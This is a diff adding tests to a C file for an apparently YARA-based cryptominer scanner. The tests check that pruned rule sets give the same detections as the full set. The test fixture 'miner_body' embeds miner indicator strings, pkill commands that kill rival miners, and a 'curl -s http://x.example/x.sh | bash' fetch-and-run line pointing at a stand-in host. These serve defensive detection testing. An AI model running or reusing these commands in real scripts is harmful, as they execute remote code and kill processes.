@@ -1,13 +1,17 @@
 /*
  * test_ruleprune.c - rule sets cut to an object's kind (issue 12,
  * scanner/ruleprune.h): what the reader decides from a condition, that
- * and that the cut text compiles with libyara to the same rules.
+ * the cut text compiles with libyara to the same rules, and that scans
+ * with the cut sets give exactly the hits of the whole set (built-in and
+ * user rules, objects of every kind and size class).
  */
 #include <criterion/criterion.h>
 #include <stdlib.h>
 #include <string.h>
 #include <yara.h>
 
+#include "engine.h"
+#include "minerscan.h"
 #include "ruleprune.h"
 #include "util.h"
 
@@ -169,4 +173,139 @@ Test(ruleprune, the_cut_text_compiles_to_the_same_rules) {
     free(text);
     ms_prune_free(p);
     yr_finalize();
+}
+
+/* ---- scans: the cut sets give the whole set's hits ---- */
+
+typedef struct {
+    char names[4096];
+} hits;
+
+static int keep_hits(void *ud, ms_verdict *v) {
+    hits *h = ud;
+    for (size_t i = 0; i < v->n_rules; i++) {
+        strncat(h->names, v->rules[i].rule, sizeof(h->names) - strlen(h->names) - 2);
+        strncat(h->names, " ", sizeof(h->names) - strlen(h->names) - 1);
+    }
+    ms_verdict_free(v);
+    return MS_CONTINUE;
+}
+
+/* Objects of every head and size class that hit built-in and user rules. */
+typedef struct {
+    uint8_t *data;
+    size_t size;
+    const char *name;
+} object;
+
+static object make(const char *name, const char *head, size_t headlen, const char *body, size_t size) {
+    object o = {.data = calloc(1, size), .size = size, .name = name};
+    cr_assert_not_null(o.data);
+    memset(o.data, 'A', size);
+    memcpy(o.data, head, headlen);
+    size_t bl = strlen(body);
+    memcpy(o.data + 64, body, bl);
+    memcpy(o.data + size - bl - 1, body, bl); /* near the end of a big one too */
+    return o;
+}
+
+static const char miner_body[] =
+    "\nXMRig 6.21.0 built for linux\ndonate.v2.xmrig.com max-threads-hint huge-pages-jit\n"
+    "donate-level 1\nrandomx\nuse pool stratum+tcp://pool.example.com:3333\nnew job from pool\n"
+    "mining.subscribe mining.submit\npkill -9 xmrig; pkill -9 kinsing; pkill -9 kdevtmpfsi; pkill -9 minerd; "
+    "pkill -9 cryptonight; killall -9 xmr-stak\ncurl -s http://x.example/x.sh | bash\n";
+
+static const char user_rules[] =
+    "rule u_small { strings: $a = \"mining.subscribe\" condition: filesize < 2MB and $a }\n"
+    "rule u_pe { strings: $a = \"randomx\" condition: uint16(0) == 0x5a4d and $a }\n"
+    "rule u_elf_big { strings: $a = \"randomx\" condition: uint32(0) == 0x464c457f and not filesize < 4MB and $a }\n"
+    "rule u_any { strings: $a = \"stratum+tcp\" condition: $a }\n";
+
+static void scan_all(const object *obs, size_t n, const char *mode, const char *rules, hits *out,
+                     size_t *ret_cut) {
+    setenv("MINERSCAN_RULE_CUT", mode, 1);
+    ms_options o;
+    ms_options_default(&o);
+    const char *rv[] = {rules};
+    o.rules = rv;
+    o.n_rules = rules ? 1 : 0;
+    ms_engine *e = NULL;
+    ms_worker *w = NULL;
+    char *err = NULL;
+    int r = ms_engine_new(&o, &e, &err);
+    cr_assert_eq(r, 0, "%s", err ? err : "");
+    cr_assert_eq(ms_worker_new(e, &w), 0);
+    for (size_t i = 0; i < n; i++) {
+        ms_sink sink = {.emit = keep_hits, .ud = &out[i]};
+        cr_assert_geq(ms_worker_scan_buffer(w, obs[i].data, obs[i].size, obs[i].name, strlen(obs[i].name), &sink),
+                      0);
+    }
+    *ret_cut = ms_engine_cut_sets(e);
+    ms_worker_free(w);
+    ms_engine_free(e);
+    unsetenv("MINERSCAN_RULE_CUT");
+}
+
+Test(ruleprune, cut_sets_give_the_hits_of_the_whole_set) {
+    char *rules = t_write_str(t_tmp, "user.yar", user_rules);
+    object obs[] = {
+        make("small.elf", "\x7f" "ELF\x02\x01\x01", 7, miner_body, 64 << 10),
+        make("big.elf", "\x7f" "ELF\x02\x01\x01", 7, miner_body, 5 << 20),
+        make("huge.elf", "\x7f" "ELF\x02\x01\x01", 7, miner_body, 17 << 20),
+        make("small.exe", "MZ\x90\x00", 4, miner_body, 64 << 10),
+        make("big.exe", "MZ\x90\x00", 4, miner_body, 3 << 20),
+        /* in the 1 MiB class, under u_small's 2 MB */
+        make("mid.exe", "MZ\x90\x00", 4, miner_body, (3 << 20) / 2),
+        make("drop.sh", "#!/bin/sh\n", 10, miner_body, 8 << 10),
+        make("big.sh", "#!/bin/sh\n", 10, miner_body, 5 << 20),
+        make("macho", "\xcf\xfa\xed\xfe", 4, miner_body, 2 << 20),
+        make("tiny", "MZ", 2, "", 3),
+    };
+    size_t n = sizeof(obs) / sizeof(obs[0]);
+    hits whole[16] = {0}, cut[16] = {0};
+    size_t cut_sets_off = 0, cut_sets_on = 0;
+    scan_all(obs, n, "off", rules, whole, &cut_sets_off);
+    scan_all(obs, n, "always", rules, cut, &cut_sets_on);
+    cr_assert_eq(cut_sets_off, 0);
+    cr_assert_geq(cut_sets_on, 4, "the classes met got their cut sets: %zu", cut_sets_on);
+    size_t total = 0;
+    for (size_t i = 0; i < n; i++) {
+        cr_expect_str_eq(cut[i].names, whole[i].names, "%s: cut sets hit [%s], the whole set [%s]", obs[i].name,
+                         cut[i].names, whole[i].names);
+        for (const char *s = whole[i].names; *s; s++)
+            total += *s == ' ';
+    }
+    /* the fixtures do reach the gated rules */
+    cr_assert_geq(total, 30, "%zu hits", total);
+    cr_assert_not_null(strstr(whole[1].names, "u_elf_big"));
+    cr_assert_null(strstr(whole[1].names, "u_small"));
+    cr_assert_not_null(strstr(whole[3].names, "u_pe"));
+    cr_assert_not_null(strstr(whole[5].names, "u_small"), "%s", whole[5].names);
+    cr_assert_not_null(strstr(whole[6].names, "dropper_kill_competitors"), "%s", whole[6].names);
+    cr_assert_null(strstr(whole[7].names, "dropper_kill_competitors"), "%s", whole[7].names);
+    for (size_t i = 0; i < n; i++)
+        free(obs[i].data);
+    free(rules);
+}
+
+/* The built-in rules alone (no user rules): the cut sets of the blob's
+ * sources, the same hits. */
+Test(ruleprune, builtin_cut_sets_give_the_same_hits) {
+    object obs[] = {
+        make("big.elf", "\x7f" "ELF\x02\x01\x01", 7, miner_body, 5 << 20),
+        make("drop.sh", "#!/bin/sh\n", 10, miner_body, 8 << 10),
+        make("config.json", "{\n", 2, miner_body, 4 << 10),
+    };
+    size_t n = sizeof(obs) / sizeof(obs[0]);
+    hits whole[4] = {0}, cut[4] = {0};
+    size_t off_sets, on_sets;
+    scan_all(obs, n, "off", NULL, whole, &off_sets);
+    scan_all(obs, n, "always", NULL, cut, &on_sets);
+    cr_assert_gt(on_sets, 0);
+    for (size_t i = 0; i < n; i++) {
+        cr_assert_str_eq(cut[i].names, whole[i].names, "%s", obs[i].name);
+        cr_assert_neq(whole[i].names[0], '\0', "%s hits the built-in rules", obs[i].name);
+    }
+    for (size_t i = 0; i < n; i++)
+        free(obs[i].data);
 }
